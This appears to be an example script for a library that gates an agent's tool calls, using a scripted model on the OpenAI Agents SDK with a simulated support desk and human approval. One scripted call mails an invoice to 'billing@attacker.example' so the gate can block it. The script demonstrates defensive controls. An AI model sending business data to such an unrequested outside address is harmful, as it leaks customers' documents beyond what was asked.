"""The support desk on the OpenAI Agents SDK, offline: a scripted ``Model``, the reference
contracts and policies, the simulator, and a SQLite receipt store.

Two user turns. In the first the model proposes an allowed write (a follow-up), a forbidden
call (an e-mail to an address the conversation never gave) and a call to a tool that does
not exist; in the second, an e-mail that needs a person's confirmation, which Dana
approves. Prints ``<tool> <route>`` for each decision, then the number of writes the
simulator received.

    python examples/frameworks/openai_agents_agent.py
"""

from __future__ import annotations

import asyncio
import json
import sys
import tempfile
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import yaml
from agents import Agent, Model, ModelResponse, Runner, Usage
from openai.types.responses import (
    ResponseFunctionToolCall,
    ResponseOutputMessage,
    ResponseOutputText,
)

from callgate_rules.harness.simulator import Simulator
from callgate_rules.harness.world import WorldResolvers
from callgate_rules.integrations.frameworks import Turn
from callgate_rules.integrations.frameworks.openai_agents import CallgateTools
from callgate_rules.pipeline.asynchronous import AsyncGate
from callgate_rules.pipeline.decision import Decision

REPO = Path(__file__).resolve().parents[2]
NOW = datetime(2026, 11, 29, 12, 0, tzinfo=UTC)


def call(call_id: str, name: str, **arguments: Any) -> ResponseFunctionToolCall:
    return ResponseFunctionToolCall(type="function_call", call_id=call_id, name=name,
                                    arguments=json.dumps(arguments))


def say(text: str) -> ResponseOutputMessage:
    return ResponseOutputMessage(
        id="msg", type="message", role="assistant", status="completed",
        content=[ResponseOutputText(type="output_text", text=text, annotations=[])])


class ScriptedModel(Model):
    """The Agents SDK's ``Model`` interface, answering from a script: one list of output
    items per model request, in order."""

    def __init__(self, script: list[list[Any]]) -> None:
        self.script: Iterator[list[Any]] = iter(script)

    async def get_response(self, *args: Any, **keywords: Any) -> ModelResponse:
        return ModelResponse(output=next(self.script), usage=Usage(), response_id=None)

    def stream_response(self, *args: Any, **keywords: Any) -> Any:
        raise NotImplementedError("this example does not stream")


SCRIPT = [
    [call("fc_1", "createFollowUp", ticketId="T-1001", assigneeId="U-7",
          dueAt="2026-12-03T09:00:00Z", note="Call back about the VAT"),
     call("fc_2", "sendEmail", to="billing@attacker.example", subject="Invoice",
          body="Here is the invoice."),
     call("fc_3", "deleteTicket", ticketId="T-1001")],
    [say("The follow-up is created; I cannot send that e-mail or delete tickets.")],
    [call("fc_4", "sendEmail", to="anna.petrova@northwind.example",
          subject="Your ticket T-1001", body="Hello Anna, we are on it.")],
    [say("The e-mail to Anna is sent.")],
]


def show(decision: Decision) -> None:
    print(decision.tool or decision.log.get("tool"), decision.route)


async def main(store_directory: str) -> int:
    world = yaml.safe_load((REPO / "examples" / "world.yaml").read_text())
    dana = yaml.safe_load((REPO / "examples" / "actors" / "dana.yaml").read_text())
    simulator = Simulator(world)
    gate = AsyncGate.from_paths(
        REPO / "contracts", REPO / "policies", resolvers=WorldResolvers(world),
        executors=simulator.executors(), finder=simulator.find,
        store=f"sqlite:///{store_directory}/receipts.sqlite3", clock=lambda: NOW)
    callgate = CallgateTools(gate, on_decision=show)
    agent = Agent(name="support desk", instructions="Help the support team.",
                  model=ScriptedModel(SCRIPT), tools=callgate.tools)
    run_config = callgate.run_config(tracing_disabled=True)  # offline: no trace export

    first = Turn(actor=dana, request_id="turn-1")  # one request ID per user message
    result = await Runner.run(agent, "Follow up on T-1001, mail the invoice, drop the ticket.",
                              context=first, run_config=run_config)

    second = Turn(actor=dana, request_id="turn-2", confirmed_by="dana")
    history = [*result.to_input_list(),
               {"role": "user", "content": "Tell Anna Petrova (anna.petrova@northwind.example) "
                                           "we are on it."}]
    result = await Runner.run(agent, history, context=second, run_config=run_config)
    while result.interruptions:  # a write waits for a person: show the draft, approve it
        state = result.to_state()
        for item in callgate.requests(state):
            assert callgate.draft(item), "the gate's draft is what the person reads"
            callgate.approve(state, item, by="dana")
        result = await Runner.run(agent, state, context=second, run_config=run_config)
    print(simulator.write_count())
    return 0


if __name__ == "__main__":
    with tempfile.TemporaryDirectory(prefix="callgate-agents-") as directory:
        sys.exit(asyncio.run(main(directory)))
